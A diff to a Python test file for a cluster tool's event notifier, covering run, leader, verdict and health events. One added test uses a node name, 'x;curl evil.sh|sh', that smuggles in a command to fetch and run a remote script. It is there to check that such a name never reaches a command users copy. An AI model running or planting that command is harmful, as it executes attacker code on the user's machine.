@@ -12,13 +12,22 @@ CYCLE = {
     "verdicts": [], "events": [],
 }  # fmt: skip
 BEFORE = {
-    "cluster": {"leader": ADA["id"]}, "nodes": [ADA, BOB], "cycle": CYCLE, "train": None,
-    "health": [],
+    "cluster": {"id": "home", "leader": ADA["id"]}, "nodes": [ADA, BOB], "health": [],
+    "runs": {CYCLE["id"]: CYCLE}, "known_runs": {CYCLE["id"], "0ver"},
 }  # fmt: skip
 
 
 def seen(**changed):
-    return [(str(e.level), e.code, e.text) for e in noticed(BEFORE, BEFORE | changed)]
+    return told(BEFORE, BEFORE | changed)
+
+
+def told(before, after):
+    return [(str(e.level), e.code, e.text) for e in noticed(before, after)]
+
+
+def with_runs(*runs):
+    ids = {run["id"] for run in runs}
+    return BEFORE | {"runs": {run["id"]: run for run in runs}, "known_runs": {"0ver", *ids}}
 
 
 def test_nothing_changed_is_no_event_and_the_first_look_is_none():
@@ -57,9 +66,15 @@ def test_a_machine_that_waits_and_goes_again_never_was_a_member():
     assert list(noticed(waiting, BEFORE)) == []
 
 
+def test_a_strangers_name_is_in_no_command_that_people_copy():
+    stranger = {"id": "d" * 32, "name": "x;curl evil.sh|sh", "state": "pending"}
+    ((_, _, text),) = seen(nodes=[ADA, BOB, stranger])
+    assert text.endswith(f"jupiterctl node approve {'d' * 8}")
+
+
 @pytest.mark.parametrize(("leader", "code"), [(BOB["id"], "leader-elected"), (None, "no-leader")])
 def test_leaders_are_told(leader, code):
-    assert [event[1] for event in seen(cluster={"leader": leader})] == [code]
+    assert [event[1] for event in seen(cluster={"id": "home", "leader": leader})] == [code]
 
 
 def test_a_warning_is_told_when_it_comes_and_when_it_is_over():
@@ -125,11 +140,62 @@ def test_what_was_only_news_is_never_over():
             {"verdicts": [{"round": 1, "verdict": "HOLD", "reason": "not shown"}]},
             ["verdict-reached"],
         ),
-        ({"id": "decade00"}, ["run-started", "phase-began"]),
     ],
 )
 def test_what_a_cycle_does_is_told(changed, codes):
-    assert [event[1] for event in seen(cycle=CYCLE | changed)] == codes
+    assert [event[1] for event in told(BEFORE, with_runs(CYCLE | changed))] == codes
+
+
+OTHER = CYCLE | {"id": "decade00", "state": "paused"}
+
+
+def test_a_run_that_begins_is_told_beside_another_that_goes_on():
+    began = told(BEFORE, with_runs(CYCLE, OTHER | {"state": "running"}))
+    assert [event[1] for event in began] == ["run-started", "phase-began"]
+
+
+def test_the_end_of_one_is_told_and_the_other_that_is_shown_again_did_not_begin():
+    ended = CYCLE | {"state": "finished", "phase": None}
+    events = told(with_runs(CYCLE, OTHER), with_runs(ended, OTHER))
+    assert events == [("info", "run-changed", "python c0ffee00 is finished")]
+
+
+def test_one_that_began_and_failed_between_two_looks_is_told_with_its_failure():
+    failed = OTHER | {"state": "failed", "failure": {"message": "no text"}}
+    events = told(BEFORE, with_runs(CYCLE, failed))
+    assert [event[1] for event in events] == ["run-started", "run-failed"]
+
+
+def test_old_ones_that_come_to_be_shown_are_no_news_until_they_go_on():
+    old = CYCLE | {"id": "0ver", "state": "finished", "events": [{"seq": 1, "text": "epoch 1"}]}
+    assert told(BEFORE, with_runs(CYCLE, old)) == []
+    again = told(BEFORE, with_runs(CYCLE, old | {"state": "running"}))
+    assert [event[1] for event in again] == ["run-changed"]
+
+
+def test_what_another_clusters_runs_did_is_no_news():
+    there = with_runs(OTHER | {"state": "running"}) | {
+        "cluster": {"id": "there", "leader": ADA["id"]}
+    }
+    assert told(BEFORE, there) == []
+
+
+def test_a_round_that_is_judged_again_is_told_again():
+    first = CYCLE | {
+        "verdicts": [{"round": 1, "verdict": "HOLD", "candidate": "m1", "reason": "a"}]
+    }
+    again = CYCLE | {
+        "verdicts": [{"round": 1, "verdict": "HOLD", "candidate": "m2", "reason": "a"}]
+    }
+    assert [event[1] for event in told(with_runs(first), with_runs(again))] == ["verdict-reached"]
+
+
+def test_a_trouble_of_this_node_whose_words_change_is_not_told_again():
+    full, fuller = (
+        BEFORE | {"health": [{"code": "disk", "severity": "error", "title": f"no room: {free} MB"}]}
+        for free in (2, 1)
+    )
+    assert told(full, fuller) == []
 
 
 def test_a_name_can_not_steer_the_terminal():
